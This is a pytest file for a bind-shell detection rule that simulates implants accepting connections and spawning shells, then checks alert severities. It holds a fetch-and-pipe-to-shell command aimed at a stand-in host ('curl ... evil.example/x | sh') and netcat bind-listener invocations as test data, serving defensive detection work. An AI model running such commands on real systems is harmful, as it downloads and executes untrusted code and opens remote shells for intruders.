# SPDX-License-Identifier: Apache-2.0
"""nsp.bind-shell: implants that listen and hand out a shell, and the services made for that."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.support.batches import SECOND, Node
from tests.support.stream import rules, run, whole_pipeline

if TYPE_CHECKING:
    from stream_apps.pipeline import Pipeline

RULE = "nsp.bind-shell"
EVIL = "203.0.113.9"


def severities(node: Node, through: Pipeline | None = None) -> list[str]:
    return [severity for rule, severity in rules(run(node, through or whole_pipeline())) if rule == RULE]


def accept(node: Node, process: int, remote: str = EVIL) -> None:
    node.add(
        "SocketAccept", process, cookie=5, local_address="10.1.2.3", local_port=4444, remote_address=remote,
        remote_port=50_000,
    )  # fmt: skip


@pytest.mark.parametrize("stdio", ["PIPE", "TERMINAL"])
@pytest.mark.parametrize("argv", [["sh"], ["sh", "-i"], ["-bash"], ["bash", "--norc", "-i"]])
def test_a_shell_after_a_connection_to_its_parent_is_told(stdio: str, argv: list[str]) -> None:
    node = Node()
    implant = node.service("/opt/x/agent")
    accept(node, implant)
    node.spawn(implant, "/usr/bin/bash", argv, stdio=[stdio] * 3)
    [alert] = [each for each in run(node, whole_pipeline()).alerts if each["rule_id"] == RULE]
    assert alert["severity"] == "CRITICAL"
    assert (alert["remote_address"], alert["remote_port"]) == (EVIL, 50_000)
    assert "connected to port 4444" in alert["description"]


def test_a_fork_in_between_and_a_batch_in_between_hide_nothing() -> None:
    node, through = Node(), whole_pipeline()
    implant = node.service("/usr/bin/python3.11", ["python3", "x.py"])
    accept(node, implant)
    assert severities(node, through) == []
    node.spawn(node.fork(implant), "/usr/bin/dash", ["sh"], stdio=["PIPE"] * 3)
    assert severities(node, through) == ["CRITICAL"]


@pytest.mark.parametrize(
    ("argv", "stdio"),
    [
        (["sh", "-c", "date"], "PIPE"), (["bash", "/app/run.sh"], "PIPE"), (["bash", "-lc", "make"], "PIPE"),
        (["sh"], "FILE"), (["sh"], "CLOSED"),
    ],
)  # fmt: skip
def test_a_command_or_a_script_is_what_services_start(argv: list[str], stdio: str) -> None:
    node = Node()
    service = node.service("/app/cgi")
    accept(node, service)
    node.spawn(service, "/usr/bin/bash", argv, stdio=[stdio] * 3)
    assert severities(node) == []


def test_what_a_script_pipes_into_a_shell_is_not_who_connected() -> None:
    node, through = Node(), whole_pipeline()
    service = node.service("/app/web")
    accept(node, service)
    script = node.spawn(service, "/usr/bin/dash", ["sh", "-c", "curl -s http://evil.example/x | sh"])
    node.spawn(script, "/usr/bin/dash", ["sh"], stdio=["PIPE"] * 3)
    assert severities(node, through) == []
    node.spawn(service, "/usr/bin/dash", ["sh"], stdio=["PIPE"] * 3)
    assert severities(node, through) == ["CRITICAL"]


def test_later_and_from_inside_and_from_login_services_it_is_none() -> None:
    for executable, remote, later_s in (
        ("/app/x", EVIL, 6), ("/app/x", "127.0.0.1", 0), ("/usr/sbin/sshd", EVIL, 0),
        ("/usr/bin/ttyd", EVIL, 0),
    ):  # fmt: skip
        node = Node()
        service = node.service(executable)
        accept(node, service, remote)
        node.now_ns += later_s * SECOND
        node.spawn(service, "/usr/bin/bash", ["-bash"], stdio=["TERMINAL"] * 3)
        assert severities(node) == []


def test_a_shell_on_the_connection_itself_is_told_once_by_the_other_rule() -> None:
    node = Node()
    implant = node.service("/opt/x/agent")
    accept(node, implant)
    node.spawn(implant, "/usr/bin/bash", ["bash"], stdio=["INET"] * 3, stdio_peer=f"{EVIL}:50000")
    told = [rule for rule, _ in rules(run(node, whole_pipeline()))]
    assert "nsp.reverse-shell" in told
    assert RULE not in told


def test_a_relay_that_listens_below_a_service_is_told_and_one_of_a_person_is_not() -> None:
    node = Node()
    shell = node.spawn(node.service("/usr/sbin/nginx"), "/usr/bin/dash")
    node.listen(node.spawn(shell, "/usr/bin/nc.openbsd", ["nc", "-l", "4444"]), 4444)
    assert severities(node) == ["HIGH"]
    node = Node()
    person = node.spawn(node.service("/usr/sbin/sshd"), "/usr/bin/bash", ["-bash"])
    node.listen(node.spawn(person, "/usr/bin/nc.openbsd", ["nc", "-l", "4444"]), 4444)
    assert severities(node) == []


def test_memory_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("stream_apps.detect.bind_shell.MAX_PROCESSES", 5)
    node, through = Node(), whole_pipeline()
    for _ in range(20):
        accept(node, node.service("/app/x"))
    run(node, through)
    assert through.metrics()["detect", "bind_shell_processes_now"] == 5
    assert through.metrics()["detect", "bind_shell_evicted"] == 15


def test_a_relay_that_listens_for_its_own_workload_is_none() -> None:
    node = Node()
    shell = node.spawn(node.service("/usr/sbin/nginx"), "/usr/bin/dash")
    relay = node.spawn(shell, "/usr/bin/socat", ["socat", "TCP-LISTEN:80", "UNIX:/x"])
    node.add(
        "SocketListen", relay, cookie=77, protocol=6, local_address="127.0.0.1", local_port=80
    )  # fmt: skip
    assert severities(node) == []
